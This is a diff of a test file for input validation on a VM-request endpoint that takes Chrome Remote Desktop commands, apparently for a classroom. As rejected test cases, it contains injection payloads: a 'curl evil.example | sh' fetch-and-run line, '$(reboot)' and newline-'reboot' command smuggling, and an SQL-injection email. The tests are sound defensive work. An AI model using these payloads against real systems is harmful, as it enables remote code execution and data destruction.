@@ -90,7 +90,7 @@ const CASES: Case[] = [
   requestVmCase('an extra field', { email: 'a@example.com', crd_command: goodCommand, pin: '123456' }, 400, /Unexpected field\(s\): pin/),
   requestVmCase('shell metacharacters', { email: 'a@example.com', crd_command: `${goodCommand} && curl evil.example | sh` }, 400, /contains "&&"/),
   requestVmCase('a command substitution', { email: 'a@example.com', crd_command: goodCommand.replace('$(hostname)', '$(reboot)') }, 400, /--name in the command is not a valid host name/),
-  requestVmCase('a newline', { email: 'a@example.com', crd_command: `${goodCommand}\nreboot` }, 400, /line break/),
+  requestVmCase('a newline and another command', { email: 'a@example.com', crd_command: `${goodCommand}\nreboot` }, 400, /contains "reboot"/),
   requestVmCase('a Cyrillic look-alike in the code', { email: 'a@example.com', crd_command: crdCommand('4/0Aan\u0430bcdefghijklmnopqrstuvwxyz') }, 400, /incomplete or malformed/),
   requestVmCase('a full-width look-alike in the email', { email: 'a\uff20example.com', crd_command: goodCommand }, 400, /not a valid email/),
   requestVmCase('an SQL-ish email', { email: "x'); DELETE FROM vms; --@example.com", crd_command: goodCommand }, 400, /not a valid email/),
@@ -199,7 +199,7 @@ describe('access code and request limits', () => {
     const before = await dumpDatabase(env.db.pool);
     const missing = await submit({ email: 'a@example.com', crd_command: crdCommand() });
     expect(missing.status).toBe(403);
-    expect(await missing.json()).toEqual({ error: 'Enter the access code your instructor gave you.', field: 'access_code' });
+    expect(await missing.json()).toEqual({ error: 'Enter the access code your instructor gave you.', field: 'access_code', errors: { access_code: 'Enter the access code your instructor gave you.' } });
     const wrong = await submit({ email: 'a@example.com', crd_command: crdCommand(), access_code: 'room-43' });
     expect(wrong.status).toBe(403);
     expect(((await wrong.json()) as { error: string }).error).toMatch(/not right/);
